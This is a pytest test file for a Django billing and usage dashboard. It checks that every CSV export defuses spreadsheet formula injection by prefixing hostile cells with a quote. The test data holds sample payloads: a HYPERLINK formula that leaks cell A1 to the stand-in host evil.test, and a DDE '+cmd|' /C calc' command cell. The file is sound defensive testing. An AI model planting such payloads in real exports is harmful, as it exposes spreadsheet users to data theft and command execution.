"""CSV formula injection (issue 9, item 1): every CSV the product writes defuses formula cells."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import transaction
from django.urls import reverse
from django.utils import timezone

from billing.ledger import ledger_append
from kilo_dashboard.csv_export import csv_lines, safe_cell
from tests.conftest import client_for
from tests.usage.conftest import make_event
from usage.ingest import ingest_events
from usage.rollup import rollup_until_caught_up

# The payloads from the report, and each as a spreadsheet must receive it (OWASP: a leading ').
HOSTILE = {
    '=HYPERLINK("http://evil.test/?x="&A1,"click")': '\'=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@evil": "'@evil",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.mark.parametrize(("typed", "written"), HOSTILE.items())
def test_formula_cells_get_a_leading_quote(typed, written):
    assert safe_cell(typed) == written


@pytest.mark.parametrize(
    "value", ["-12.50", "-1.234567", "42", "claude-sonnet-4-5", "a=b", "", 7, Decimal("-3.5")]
)
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_csv_lines_defuses_every_row_including_the_header():
    lines = list(csv_lines([["=a", "b"], ["c", -1, "-0.5"]]))
    assert lines == ["'=a,b\r\n", "c,-1,-0.5\r\n"]


def _read(response) -> list[list[str]]:  # noqa: ANN001
    assert response.status_code == 200, response
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
@pytest.mark.parametrize("persona", ["owner", "member"])
def test_usage_export_defuses_model_and_provider_names(org, owner, member, persona):
    occurred = timezone.now() - timedelta(minutes=5)
    events = [
        make_event(occurred_at=occurred, model=model, provider=provider, cost_microdollars=10)
        for model, provider in [
            ('=HYPERLINK("http://evil.test/?x="&A1,"click")', "anthropic"),
            ("claude-sonnet-4-5", "+cmd|' /C calc'!A0"),
            ("-2+3", "@evil"),
        ]
    ]
    result = ingest_events(organization_id=org.pk, events=events)
    assert result.accepted == 3, result.errors
    rollup_until_caught_up()
    user = {"owner": owner, "member": member}[persona]
    rows = _read(client_for(user).get(reverse("usage_export", args=[org.slug]) + "?range=7d"))
    cells = {(row[2], row[3]) for row in rows[1:]}
    assert cells == {
        ('\'=HYPERLINK("http://evil.test/?x="&A1,"click")', "anthropic"),
        ("claude-sonnet-4-5", "'+cmd|' /C calc'!A0"),
        ("'-2+3", "'@evil"),
    }
    assert {row[10] for row in rows[1:]} == {"0.000010"}  # the money column is still a number


@pytest.mark.django_db
def test_billing_history_csv_defuses_descriptions_and_keeps_negative_amounts(org, owner):
    with transaction.atomic():
        ledger_append(
            organization=org,
            kind="adjustment",
            amount_microdollars=-12_500_000,
            idempotency_key="adj-1",
            description="=1+1",
        )
    rows = _read(client_for(owner).get(reverse("billing_history_csv", args=[org.slug])))
    assert [row[1:4] for row in rows[1:]] == [["adjustment", "'=1+1", "-12.50"]]
